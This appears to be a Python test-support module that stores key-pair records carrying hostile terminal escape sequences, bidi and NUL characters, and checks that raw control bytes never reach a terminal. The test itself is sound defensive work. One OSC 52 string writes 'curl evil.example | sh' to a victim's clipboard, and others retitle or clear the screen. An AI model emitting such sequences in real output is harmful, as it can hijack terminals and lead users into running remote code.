"""Hostile text in a store, as a store written before the rules refused it (or an endpoint's
answer) holds it, and the check that none of it reaches a terminal raw."""

from __future__ import annotations

import base64
import re
from dataclasses import replace

from ecs_keypair.contract.api_requests import CreateKeyPairRequest
from ecs_keypair.contract.records import KeyPairRecord
from ecs_keypair.contract.rules import Tag
from ecs_keypair.store.local_backend import LocalBackend

from tests.support.engine import REGION

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2Jwiped"
C1 = "\x9b31mred"
BIDI = "exe.\u202etxt"
NUL = "nul\x00byte"

HOSTILE_TAGS = (
    Tag("clip", CLIPBOARD),
    Tag("title", TITLE),
    Tag("clear", CLEAR),
    Tag("c1", C1),
    Tag("bidi", BIDI),
    Tag("two\nlines", "newline-in-key"),
    Tag("nul", NUL),
)
TAGGED = "tagged"
HOSTILE_NAME = "evil\x1b]0;named\x07"
HOSTILE_GROUP_NAME = "ops\x1b[2J"
HOSTILE_GROUP_DISPLAY_NAME = "Ops\x9b2J\u202e"

# Raw in the bytes a terminal is sent: C0 controls other than tab and line feed (which JSON's
# layout and the tables' lines use), DEL, C1 (U+0080-U+009F as UTF-8), the bidi controls, the
# separators and the invisible characters, as UTF-8.
_RAW = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xd8\x9c|\xe2\x80[\x8b\x8e\x8f\xa8-\xae]"
    rb"|\xe2\x81[\xa0-\xa4\xa6-\xa9]|\xef\xbb\xbf"
)


def raw_controls(data: bytes) -> list[bytes]:
    """Every raw control, bidi or invisible character in ``data`` (the empty list: none)."""
    return _RAW.findall(data)


def store_hostile_key_pairs(backend: LocalBackend) -> None:
    """Key pairs the rules would refuse today, written behind their back: ``tagged`` with
    :data:`HOSTILE_TAGS` in a group whose name and display name are hostile, and one named
    :data:`HOSTILE_NAME`."""
    store = backend.store
    group = store.add_resource_group(HOSTILE_GROUP_NAME, HOSTILE_GROUP_DISPLAY_NAME)
    created = backend.create_key_pair(CreateKeyPairRequest(REGION, TAGGED, group.id))

    def hostile(record: KeyPairRecord) -> KeyPairRecord:
        return replace(record, tags=HOSTILE_TAGS)

    store.update(REGION, [TAGGED], hostile)
    store.add(
        replace(
            created.record,
            key_pair_name=HOSTILE_NAME,
            key_pair_id="ssh-zzzzzzzzzzzzzzzzzz",
            tags=(),
        )
    )
